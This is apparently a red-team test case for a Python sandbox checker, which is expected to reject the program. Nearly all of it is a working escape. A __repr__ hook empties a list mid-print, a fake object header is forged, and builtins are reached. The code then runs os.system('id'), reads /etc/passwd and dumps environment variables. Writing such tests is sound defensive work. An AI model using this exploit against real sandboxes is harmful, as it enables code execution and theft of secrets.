# expect: reject memory
# line: 32
# why: round 95 (red team): asyncio.Condition's __repr__ calls locked() on the lock it was given (library-held-calls.txt), but a program with no comparison was judged in text mode without asking the held calls: Gate.locked emptied the list being printed. A def library code calls on what it holds while converting to text puts the program in text mode and is judged there
import asyncio

L = []
KEEP = []
ARM = []


def q(v):
    return v.to_bytes(8, "little")


class Carrier(Exception):
    def __init__(self, obj):
        super().__init__("carried")
        self.payload = obj


class Fake:
    def __repr__(self):
        raise Carrier(self)


HDR = q(1 << 40) + q(id(Fake))


class Gate:
    def locked(self):
        if ARM:
            ARM.clear()
            L.clear()
            buf = bytearray(95)
            buf[0:16] = HDR
            KEEP.append(buf)
        return False

    def acquire(self):
        return True

    def release(self):
        return None


cond = asyncio.Condition(Gate())
n = 40
L.append(slice(cond, "q" * n))
ARM.append(1)
try:
    text = repr(L)
except Carrier as e:
    mem = e.payload


def g():
    return 0


KEEP[0][8:40] = q(id(list)) + q(2) + q(id(g) + 16) + q(2)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
